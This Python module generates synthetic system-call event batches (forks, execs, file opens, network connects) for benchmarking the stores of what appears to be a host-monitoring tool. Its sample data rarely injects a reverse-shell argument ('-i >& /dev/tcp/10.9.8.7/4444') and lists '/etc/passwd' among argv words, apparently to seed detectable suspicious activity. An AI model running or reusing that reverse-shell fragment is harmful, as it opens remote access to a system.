"""Column batches for benchmarks of the stores: realistic in shape, cheap to make, deterministic.

A few hundred template batches are flattened from ``Event`` structs once; further ones are a template with other times, numbers and ids, patched in place.
"""

from __future__ import annotations

import random
from array import array
from collections.abc import Iterator

import msgspec

from phalanx.model.columns import Coverage, encode_header
from phalanx.model.event import Accept, Connect, Event, Exec, Exit, Fork, Open, Rename, Unlink
from phalanx.model.ids import process_id
from phalanx.model.process import Descriptor, Process
from phalanx.store.events.flatten import flatten
from phalanx.store.events.wrap import read_header

__all__ = ["AGENT", "Load"]

AGENT = "0123456789abcdef"
_PROGRAMS = (
    *tuple(f"tool{number}" for number in range(300)),
    "bash",
    "sh",
    "python3",
    "nginx",
    "curl",
    "git",
    "sshd",
    "cron",
    "node",
    "java",
)
_WORDS = (
    *tuple(f"--option-{number}" for number in range(200)),
    "-v",
    "-c",
    "/etc/passwd",
    "/var/log/syslog",
    "http://10.0.0.1/x",
    "install",
    "run",
)


class Load:
    """Makes batches of ``rows`` events."""

    def __init__(self, *, rows: int = 2000, templates: int = 200, seed: int = 1) -> None:
        self.rows = rows
        chooser = random.Random(seed)
        self._templates = [self._template(chooser, number) for number in range(templates)]

    def _template(self, chooser: random.Random, number: int) -> bytes:
        init = Process(
            id=process_id("boot0000", 1, 0),
            pid=1,
            start_ns=0,
            name="systemd",
            exe="/sbin/init",
            exepath="/usr/lib/systemd/systemd",
            parent=None,
        )
        living = [init]
        events: list[Event] = []
        base = number * 10_000
        while len(events) < self.rows:
            seq, ts = len(events), len(events)
            roll = chooser.random()
            if roll < 0.06 or len(living) < 4:
                parent = chooser.choice(living[-40:])
                name = chooser.choice(_PROGRAMS)
                pid = base % 4_000_000 + len(living) + 2
                argv = (
                    *tuple(chooser.choice(_WORDS) for _ in range(chooser.randrange(6))),
                    f"job-{chooser.randrange(10**6)}",
                )
                if chooser.random() < 0.0001:
                    argv += ("-i >& /dev/tcp/10.9.8.7/4444",)
                process = Process(
                    id=process_id("boot0000", pid, base + seq),
                    pid=pid,
                    start_ns=base + seq,
                    ppid=parent.pid,
                    name=name,
                    exe=name,
                    exepath=f"/usr/bin/{name}",
                    argv=argv,
                    env=("PATH=/usr/bin:/bin", "LANG=C.UTF-8", "HOME=/root"),
                    cwd=f"/srv/app{chooser.randrange(50)}",
                    uid=chooser.choice((0, 33, 1000)),
                    user=chooser.choice(("root", "www-data", "ada")),
                    container_id=chooser.choice(("host", "host", f"c{chooser.randrange(40):011x}")),
                    cgroup=f"/system.slice/unit{chooser.randrange(40)}.service",
                    parent=parent if len(list(parent.ancestors())) < 8 else init,
                )
                living.append(process)
                events.append(Fork(ts_ns=ts, agent=AGENT, seq=seq, type="clone", ret=pid, process=process))
                events.append(
                    Exec(
                        ts_ns=ts,
                        agent=AGENT,
                        seq=seq + 1,
                        type="execve",
                        ret=0,
                        process=process,
                        filename=process.exepath,
                        tid=pid,
                    )
                )
                continue
            process = chooser.choice(living[-60:])
            common = {
                "ts_ns": ts,
                "agent": AGENT,
                "seq": seq,
                "process": process,
                "tid": process.pid,
                "cpu": chooser.randrange(8),
            }
            if roll < 0.55:
                path = f"/srv/app{chooser.randrange(50)}/data/{chooser.randrange(100_000)}.tmp"
                fd = Descriptor(num=chooser.randrange(100), type="f", name=path, ino=chooser.randrange(10**7))
                events.append(
                    Open(
                        **common,
                        type="openat",
                        ret=3,
                        name=path,
                        fd=fd,
                        flags="O_WRONLY|O_CREAT|O_CLOEXEC",
                        mode="0644",
                        is_write=True,
                    )
                )
            elif roll < 0.7:
                port = chooser.randrange(1024, 65535)
                fd = Descriptor(
                    num=5,
                    type="4",
                    name=f"10.0.0.2:{port}->10.0.{chooser.randrange(9)}.1:443",
                    l4proto="tcp",
                    cip="10.0.0.2",
                    cport=port,
                    sip="10.0.0.1",
                    sport=443,
                )
                events.append(Connect(**common, type="connect", ret=-115, addr="10.0.0.1:443", fd=fd))
            elif roll < 0.78:
                fd = Descriptor(
                    num=6,
                    type="4",
                    name="10.1.0.9:4000->10.0.0.2:80",
                    l4proto="tcp",
                    cip="10.1.0.9",
                    cport=4000,
                    sip="10.0.0.2",
                    sport=80,
                    is_server=True,
                )
                events.append(Accept(**common, type="accept4", ret=6, fd=fd))
            elif roll < 0.86:
                events.append(Unlink(**common, type="unlinkat", ret=0, name=f"/tmp/{chooser.randrange(10**6)}"))
            elif roll < 0.92:
                events.append(
                    Rename(**common, type="rename", ret=0, oldpath=f"/tmp/a{chooser.randrange(1000)}", newpath="/srv/b")
                )
            else:
                events.append(Exit(**common, type="exit_group", ret=0, duration_ns=10**7))
        return flatten(
            events[: self.rows],
            batch="0" * 32,
            host="bench-host",
            boot="boot0000",
            coverage=[Coverage(kind="*", since_ns=10**18, until_ns=10**18 + 1)],
        )

    def batches(
        self, count: int, *, since_ns: int, until_ns: int, name: str = "b", agent_seq: int = 0
    ) -> Iterator[bytes]:
        """``count`` batches whose events are spread evenly over ``[since_ns, until_ns)`` (both after 2001, so that headers keep their length)."""
        span = (until_ns - since_ns) // count
        step = max(1, span // self.rows)
        for number in range(count):
            start = since_ns + number * span
            yield self._patched(
                number, start, start + span, step, f"{name}{number}".rjust(32, "0"), agent_seq + number * self.rows
            )

    def _patched(self, number: int, since: int, until: int, step: int, name: str, seq: int) -> bytes:
        template = self._templates[number % len(self._templates)]
        header = read_header(template)
        changed = msgspec.structs.replace(
            header, batch=name, coverage=(Coverage(kind="*", since_ns=since, until_ns=until),)
        )
        head = encode_header(changed)
        block = bytearray(template)
        block[: len(head)] = head
        for place in header.columns:
            if place.table == "event" and place.name in ("ts_ns", "seq"):
                offset, length = place.data
                first, width = (since, step) if place.name == "ts_ns" else (seq, 1)
                block[offset : offset + length] = array("q", range(first, first + width * self.rows, width)).tobytes()
        return bytes(block)
